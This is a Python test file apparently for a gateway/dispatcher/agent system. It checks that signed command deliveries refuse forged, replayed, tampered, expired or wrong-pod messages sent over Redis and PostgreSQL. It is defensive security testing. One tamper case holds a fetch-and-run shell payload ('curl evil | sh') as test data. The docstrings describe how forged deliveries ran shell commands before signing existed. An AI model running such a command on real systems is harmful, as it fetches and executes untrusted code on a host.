"""Deliveries: Redis (or NOTIFY) write access alone must not make an agent act (docs/security.md "Deliveries").

The attack, as measured on the code before signed deliveries: a delivery written by hand and PUBLISHed
on a gateway's `pod:<name>:commands` channel, or a hand-over NOTIFYed on its PostgreSQL channel, was
forwarded to the agent unchecked (a forged CREATE_SESSION ran a shell command on the agent's host).
Here the forged commands are ECHOs with marker command ids: the agent writes every command it runs to
its AGENT_EXECUTION_LOG, so a forged one that got through shows there.

The process tests run a real gateway, dispatcher and agent; the first tests check delivery_auth.py alone.
"""

from __future__ import annotations

import asyncio
import hmac
import re
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import aiohttp
import asyncpg
import msgspec
import pytest
import redis.asyncio

from e2e.test_end_to_end import post_command, wait_online, wait_status
from streamspace_common.delivery_auth import (
    DELIVERY_TTL,
    GENERATED_KEY_ID,
    DeliverySigner,
    DeliveryVerifier,
    HmacSha256,
    load_delivery_keys,
    parse_delivery_keys,
)
from streamspace_common.keys import RedisKeys, pod_notify_channel
from streamspace_common.schemas import Command, Delivery, HandOver
from streamspace_common.settings import SettingsError
from streamspace_testkit import RunEnv, Service, Stack, wait_until

OLD = "old:" + "o" * 32
NEW = "new:" + "n" * 32
encoder = msgspec.json.Encoder()


def delivery(command_id: str = "c-1", **command: Any) -> Delivery:
    payload = {"b": [1, 2.5, "é \u2603 \\n"], "a": {"z": None, "y": True}, "big": 2**62, "tiny": 1e-300}
    fields: dict[str, Any] = {"action": "ECHO", "payload": payload, "session_id": "s-1", **command}
    return Delivery(agent_id="agent-1", command=Command(command_id=command_id, **fields), attempt=3, epoch=7)


def over_the_wire(signed: Delivery) -> Delivery:
    """What a gateway decodes from the pod channel."""
    return msgspec.json.decode(encoder.encode(signed), type=Delivery)


# --- delivery_auth.py alone ------------------------------------------------------------------------


@pytest.mark.parametrize("key", [b"", b"k" * 16, b"k" * 64, b"k" * 65, bytes(range(256))])
def test_the_precomputed_hmac_is_hmac_sha256(key: bytes) -> None:
    for message in (b"", b"m", b"x" * 1000):
        assert HmacSha256(key)(message) == hmac.digest(key, message, "sha256")


def test_a_signed_delivery_is_admitted_once_after_the_round_trip_through_json() -> None:
    """Replay: the same signed delivery twice is refused the second time; a later claim of the same
    (command_id, attempt) (the attempt is refunded when a replica gives a command back) is a new
    signature and is admitted."""
    keys = parse_delivery_keys(NEW)
    signer, verifier = DeliverySigner(keys), DeliveryVerifier(keys, "pod-a")
    refused: list[tuple[str, str]] = []
    verifier.refused = lambda path, reason: refused.append((path, reason))
    now = time.time()
    signed = over_the_wire(signer.sign(delivery(), "pod-a", now))
    assert verifier.admit(signed, now)
    assert not verifier.admit(over_the_wire(signer.sign(delivery(), "pod-a", now)), now + 1)  # the same bytes
    assert refused == [("redis", "replay")]
    assert verifier.admit(over_the_wire(signer.sign(delivery(), "pod-a", now + 0.5)), now + 1)


@pytest.mark.parametrize(
    "tamper",
    [
        {"agent_id": "agent-2"},
        {"attempt": 4},
        {"epoch": 8},
        {"epoch": None},
        {"expires": 1e12},
        {"pod": "pod-b"},
    ],
)
def test_a_delivery_changed_after_signing_is_refused(tamper: dict[str, Any]) -> None:
    keys = parse_delivery_keys(NEW)
    signed = DeliverySigner(keys).sign(delivery(), "pod-a", time.time())
    verifier = DeliveryVerifier(keys, "pod-a")
    refused: list[str] = []
    verifier.refused = lambda _path, reason: refused.append(reason)
    assert not verifier.admit(over_the_wire(msgspec.structs.replace(signed, **tamper)), time.time())
    assert refused == ["bad_signature"]


@pytest.mark.parametrize(
    "tamper",
    [
        {"command_id": "c-2"},
        {"action": "CREATE_SESSION"},
        {"payload": {"cmd": "curl evil | sh"}},
        {"session_id": None},
        {"epoch": 1},
    ],
)
def test_a_command_changed_after_signing_is_refused(tamper: dict[str, Any]) -> None:
    keys = parse_delivery_keys(NEW)
    signed = DeliverySigner(keys).sign(delivery(), "pod-a", time.time())
    forged = msgspec.structs.replace(signed, command=msgspec.structs.replace(signed.command, **tamper))
    assert not DeliveryVerifier(keys, "pod-a").admit(over_the_wire(forged), time.time())


def test_unsigned_unknown_key_other_pod_expired_and_far_future_deliveries_are_refused() -> None:
    keys = parse_delivery_keys(NEW)
    signer = DeliverySigner(keys)
    now = time.time()
    cases = {
        "unsigned": delivery(),
        "unknown_key": DeliverySigner(parse_delivery_keys("attacker:" + "a" * 32)).sign(delivery(), "pod-a", now),
        "bad_signature": DeliverySigner(parse_delivery_keys("new:" + "a" * 32)).sign(delivery(), "pod-a", now),
        "wrong_pod": signer.sign(delivery(), "pod-b", now),
        "expired": signer.sign(delivery(), "pod-a", now - DELIVERY_TTL - 0.01),
        "expires_too_late": signer.sign(delivery(), "pod-a", now + DELIVERY_TTL + 1),
    }
    verifier = DeliveryVerifier(keys, "pod-a")
    refused: list[str] = []
    verifier.refused = lambda _path, reason: refused.append(reason)
    for case in cases.values():
        assert not verifier.admit(over_the_wire(case), now)
    assert refused == list(cases)


def test_two_keys_verify_either_and_the_first_signs() -> None:
    """Rotation: a gateway listing both keys admits deliveries signed by either; one that has dropped
    the old key refuses the old key's (unknown key)."""
    both = parse_delivery_keys(f"{NEW},{OLD}")
    assert DeliverySigner(both).key_id == "new"
    now = time.time()
    by_old = DeliverySigner(parse_delivery_keys(OLD)).sign(delivery("c-old"), "pod-a", now)
    by_new = DeliverySigner(parse_delivery_keys(f"{NEW},{OLD}")).sign(delivery("c-new"), "pod-a", now)
    for gateway_keys in (f"{NEW},{OLD}", f"{OLD},{NEW}"):
        verifier = DeliveryVerifier(parse_delivery_keys(gateway_keys), "pod-a")
        assert verifier.admit(over_the_wire(by_old), now) and verifier.admit(over_the_wire(by_new), now)
    assert not DeliveryVerifier(parse_delivery_keys(NEW), "pod-a").admit(over_the_wire(by_old), now)


def test_hand_overs_are_signed_for_their_pod_and_admitted_once() -> None:
    keys = parse_delivery_keys(NEW)
    signer, verifier = DeliverySigner(keys), DeliveryVerifier(keys, "pod-a")
    now = time.time()

    def wire(hand_over: HandOver) -> HandOver:
        return msgspec.json.decode(encoder.encode(hand_over), type=HandOver)

    signed = signer.sign_hand_over("pod-a", [("c-1", 1), ("c-2", 4)], now)
    assert verifier.admit_hand_over(wire(signed), now)
    assert not verifier.admit_hand_over(wire(signed), now)  # replay
    assert not verifier.admit_hand_over(wire(msgspec.structs.replace(signed, commands=[("c-9", 1)])), now)
    assert not verifier.admit_hand_over(wire(signer.sign_hand_over("pod-b", [("c-1", 1)], now)), now)
    assert not verifier.admit_hand_over(HandOver(commands=[("c-1", 1)]), now)


def test_replay_memory_forgets_what_has_expired() -> None:
    keys = parse_delivery_keys(NEW)
    signer, verifier = DeliverySigner(keys), DeliveryVerifier(keys, "pod-a")
    now = time.time()
    for i in range(100):
        assert verifier.admit(signer.sign(delivery(f"c-{i}"), "pod-a", now), now)
    assert len(verifier.seen) == 100
    assert verifier.admit(signer.sign(delivery("later"), "pod-a", now + DELIVERY_TTL + 2), now + DELIVERY_TTL + 2)
    assert len(verifier.seen) == 1


@pytest.mark.parametrize(
    "setting",
    ["nokey", "k1:short", ":" + "s" * 32, "bad id:" + "s" * 32, f"{NEW},{NEW}", f"{NEW},", "x" * 33 + ":" + "s" * 32],
)
def test_a_malformed_delivery_keys_setting_names_the_variable(setting: str) -> None:
    with pytest.raises(SettingsError, match="DELIVERY_KEYS"):
        parse_delivery_keys(setting)


async def test_without_delivery_keys_every_process_shares_one_generated_key(db: asyncpg.Pool) -> None:
    first, second = await load_delivery_keys(db, ""), await load_delivery_keys(db, "")
    assert first == second and first.signing[0] == GENERATED_KEY_ID and len(first.signing[1]) >= 48
    assert (await load_delivery_keys(db, NEW)).signing == ("new", b"n" * 32)


# --- real processes ----------------------------------------------------------------------------------


def executed(path: Path) -> list[str]:
    """The command ids the agent ran (AGENT_EXECUTION_LOG: one line per finished handler)."""
    return [line.split("\t")[0] for line in path.read_text().splitlines()] if path.exists() else []


async def metric(http: aiohttp.ClientSession, service: Service, name: str, labels: str = "") -> float:
    async with http.get(service.metrics_url) as response:
        text = await response.text()
    found = re.search(rf"^{name}{re.escape(labels)} (\S+)$", text, re.MULTILINE)
    return 0.0 if found is None else float(found.group(1))


async def refusals(http: aiohttp.ClientSession, gateway: Service, path: str, reason: str) -> float:
    labels = f'{{path="{path}",reason="{reason}"}}'
    return await metric(http, gateway, "streamspace_gateway_deliveries_refused_total", labels)


async def start(
    stack: Stack, http: aiohttp.ClientSession, agent_id: str, token: str, pod: str, **keys: str
) -> tuple[Service, Service, Path]:
    """A gateway `pod`, a dispatcher and an agent logging what it runs; `keys`: DELIVERY_KEYS of each."""
    gateway = stack.gateway(pod, **({"DELIVERY_KEYS": keys["gateway"]} if "gateway" in keys else {}))
    dispatcher = stack.dispatcher(**({"DELIVERY_KEYS": keys["dispatcher"]} if "dispatcher" in keys else {}))
    await stack.ready(gateway, dispatcher)
    executions = stack.log_dir / "executions.log"
    await stack.ready(stack.agent(agent_id, token, [gateway], AGENT_EXECUTION_LOG=str(executions)))
    await wait_online(http, gateway.url, agent_id, pod)
    return gateway, dispatcher, executions


async def genuine_command_completes(http: aiohttp.ClientSession, gateway: Service, agent_id: str) -> str:
    """A command through the dispatcher completes. Published after the forgeries on the same channel, so
    the gateway has handled them by then; the short sleep lets the agent finish anything it was sent."""
    created = await post_command(http, gateway.url, agent_id, action="PING")
    await wait_status(http, gateway.url, created["command_id"], "completed")
    await asyncio.sleep(0.5)
    return str(created["command_id"])


async def test_forged_deliveries_published_on_the_pod_channel_never_reach_the_agent(
    stack: Stack,
    http: aiohttp.ClientSession,
    db: asyncpg.Pool,
    redis_client: redis.asyncio.Redis,
    test_env: RunEnv,
    agent_id: str,
    agent_token: str,
) -> None:
    """Attack: anyone who may PUBLISH on Redis writes deliveries by hand on a replica's pod channel:
    unsigned, signed with a key of the attacker's, with the real key id and a guessed secret, and (with
    the real key, as a leaked or replayed one would be) for another pod and long expired. None reaches
    the agent; each is logged once with its reason and counted; a genuine command still completes.
    On the unsigned code the agent ran the first one at once."""
    pod = f"gateway-forge-{uuid.uuid4().hex[:6]}"
    gateway, _, executions = await start(stack, http, agent_id, agent_token, pod)
    real = DeliverySigner(await load_delivery_keys(db, ""))
    now = time.time()
    forged: dict[str, Callable[[Delivery], Delivery]] = {
        "unsigned": lambda d: d,
        "unknown_key": lambda d: DeliverySigner(parse_delivery_keys("attacker:" + "a" * 32)).sign(d, pod, now),
        "bad_signature": lambda d: DeliverySigner(parse_delivery_keys(f"{GENERATED_KEY_ID}:{'g' * 48}")).sign(
            d, pod, now
        ),
        "wrong_pod": lambda d: real.sign(d, "gateway-elsewhere", now),
        "expired": lambda d: real.sign(d, pod, now - 2 * DELIVERY_TTL),
    }
    channel = RedisKeys(test_env.redis_prefix).pod_commands(pod)
    for reason, make in forged.items():
        command = Command(command_id=f"forged-{reason}-{agent_id}", action="ECHO", payload={"marker": reason})
        assert await redis_client.publish(channel, encoder.encode(make(Delivery(agent_id, command, attempt=1)))) == 1
    assert await redis_client.publish(channel, b"not a delivery") == 1

    genuine = await genuine_command_completes(http, gateway, agent_id)
    ran = executed(executions)
    assert genuine in ran
    assert not [command_id for command_id in ran if command_id.startswith("forged-")]
    log = gateway.log()
    for reason in [*forged, "malformed"]:
        assert await refusals(http, gateway, "redis", reason) == 1, reason
    for reason in forged:
        lines = [line for line in log.splitlines() if f"forged-{reason}-{agent_id}" in line]
        assert len(lines) == 1 and "delivery_refused" in lines[0] and f"reason={reason}" in lines[0], lines


async def test_a_captured_delivery_replayed_or_altered_is_refused(
    stack: Stack,
    http: aiohttp.ClientSession,
    redis_client: redis.asyncio.Redis,
    test_env: RunEnv,
    agent_id: str,
    agent_token: str,
) -> None:
    """Attack: whoever can SUBSCRIBE captures a genuine delivery and PUBLISHes it again (within its
    expiry), as is and with another command id under the captured signature. Both are refused; the
    agent sees the genuine one once. On the unsigned code the replay reached the agent (it answered
    from its journal) and the altered one ran."""
    pod = f"gateway-replay-{uuid.uuid4().hex[:6]}"
    gateway, _, executions = await start(stack, http, agent_id, agent_token, pod)
    channel = RedisKeys(test_env.redis_prefix).pod_commands(pod)
    captured: list[str] = []
    pubsub = redis_client.pubsub()
    await pubsub.subscribe(channel)

    async def capture() -> None:
        async for message in pubsub.listen():
            if message["type"] == "message":
                captured.append(message["data"])

    capturing = asyncio.create_task(capture())
    try:
        first = await post_command(http, gateway.url, agent_id, action="ECHO", payload={"n": 1})
        await wait_status(http, gateway.url, first["command_id"], "completed")
        await wait_until(lambda: asyncio.sleep(0, captured))
    finally:
        capturing.cancel()
        await asyncio.gather(capturing, return_exceptions=True)
        await pubsub.aclose()
    [raw] = captured
    genuine = msgspec.json.decode(raw, type=Delivery)
    assert genuine.command.command_id == first["command_id"] and genuine.key_id == GENERATED_KEY_ID
    forwarded = await metric(http, gateway, "streamspace_gateway_commands_forwarded_total")

    assert await redis_client.publish(channel, raw) == 1
    altered_command = msgspec.structs.replace(genuine.command, command_id=f"altered-{agent_id}")
    altered = encoder.encode(msgspec.structs.replace(genuine, command=altered_command))
    assert await redis_client.publish(channel, altered) == 1

    latest = await genuine_command_completes(http, gateway, agent_id)
    assert await metric(http, gateway, "streamspace_gateway_commands_forwarded_total") == forwarded + 1  # `latest`
    assert await refusals(http, gateway, "redis", "replay") == 1
    assert await refusals(http, gateway, "redis", "bad_signature") == 1
    assert executed(executions) == [first["command_id"], latest]
    agent_log = stack.services[-1].log()
    assert "answered_from_journal" not in agent_log


async def test_a_forged_hand_over_notified_on_the_replica_channel_never_reaches_the_agent(
    stack: Stack, http: aiohttp.ClientSession, db: asyncpg.Pool, agent_id: str, agent_token: str
) -> None:
    """Attack: anyone who may NOTIFY (any PostgreSQL login) hands a replica (command_id, attempt) pairs on
    its own channel, the PostgreSQL path used while Redis is down: here naming a row marked sent that no
    dispatcher handed over, unsigned and signed with an attacker's key. The gateway reads no row for it;
    the agent never runs it. On the unsigned code the gateway read the row and forwarded it."""
    pod = f"gateway-notify-{uuid.uuid4().hex[:6]}"
    gateway, _, executions = await start(stack, http, agent_id, agent_token, pod)
    command_id = await db.fetchval(
        "INSERT INTO agent_commands (command_id, agent_id, action, payload, status, attempts, sent_at) "
        "VALUES ($1, $2, 'ECHO', '{\"marker\": \"notify\"}', 'sent', 1, now()) RETURNING command_id",
        f"forged-notify-{agent_id}",
        agent_id,
    )
    attacker = DeliverySigner(parse_delivery_keys("attacker:" + "a" * 32))
    payloads = [
        encoder.encode(HandOver(commands=[(command_id, 1)])).decode(),
        encoder.encode(attacker.sign_hand_over(pod, [(command_id, 1)], time.time())).decode(),
    ]
    for payload in payloads:
        await db.execute("SELECT pg_notify($1, $2)", pod_notify_channel(pod), payload)

    async def refused() -> bool:
        unsigned = await refusals(http, gateway, "postgres", "unsigned")
        unknown = await refusals(http, gateway, "postgres", "unknown_key")
        return unsigned == 1 and unknown == 1

    genuine = await genuine_command_completes(http, gateway, agent_id)
    assert executed(executions) == [genuine]
    await wait_until(refused)
    assert executed(executions) == [genuine]
    assert await db.fetchval("SELECT status FROM agent_commands WHERE command_id = $1", command_id) == "sent"
    assert sum("delivery_refused" in line and command_id in line for line in gateway.log().splitlines()) == 2
    await db.execute("UPDATE agent_commands SET status = 'cancelled' WHERE command_id = $1", command_id)


async def test_keys_rotate_without_a_command_lost(
    stack: Stack,
    http: aiohttp.ClientSession,
    redis_client: redis.asyncio.Redis,
    test_env: RunEnv,
    agent_id: str,
    agent_token: str,
) -> None:
    """Rotation, as docs/security.md "Deliveries" tells it: the gateway lists the old key first and the
    new one second; a dispatcher signing with the old key, then one signing with the new key (old one
    second) both get their commands through. A dispatcher signing with a key the gateway does not list
    gets nothing through (refused: unknown key) and loses nothing: the command is retried and completes
    once a dispatcher with a listed key runs."""
    pod = f"gateway-rotate-{uuid.uuid4().hex[:6]}"
    gateway, dispatcher, executions = await start(
        stack, http, agent_id, agent_token, pod, gateway=f"{OLD},{NEW}", dispatcher=OLD
    )
    channel = RedisKeys(test_env.redis_prefix).pod_commands(pod)
    pubsub = redis_client.pubsub()
    await pubsub.subscribe(channel)
    signed_by: list[str | None] = []

    async def watch() -> None:
        async for message in pubsub.listen():
            if message["type"] == "message":
                signed_by.append(msgspec.json.decode(message["data"], type=Delivery).key_id)

    watching = asyncio.create_task(watch())

    async def through(dispatcher_keys: str) -> str:
        nonlocal dispatcher
        dispatcher.kill()
        dispatcher = stack.dispatcher(DELIVERY_KEYS=dispatcher_keys)
        await stack.ready(dispatcher)
        created = await post_command(http, gateway.url, agent_id, action="PING")
        await wait_status(http, gateway.url, created["command_id"], "completed")
        return str(created["command_id"])

    try:
        first = await genuine_command_completes(http, gateway, agent_id)  # signed by the old key
        second = await through(f"{NEW},{OLD}")
        assert executed(executions) == [first, second]

        dispatcher.kill()
        dispatcher = stack.dispatcher(DELIVERY_KEYS="newer:" + "w" * 32)
        await stack.ready(dispatcher)
        stuck = await post_command(http, gateway.url, agent_id, action="PING")
        await wait_until(lambda: refusals(http, gateway, "redis", "unknown_key"))
        assert stuck["command_id"] not in executed(executions)
        third = await through(NEW)  # the retry of `stuck` is signed by the new key now
        await wait_status(http, gateway.url, stuck["command_id"], "completed")
        assert set(executed(executions)) == {first, second, third, stuck["command_id"]}
        await wait_until(lambda: asyncio.sleep(0, len(signed_by) >= 5))
        assert signed_by[:2] == ["old", "new"] and "newer" in signed_by and signed_by[-1] == "new"
    finally:
        watching.cancel()
        await asyncio.gather(watching, return_exceptions=True)
        await pubsub.aclose()
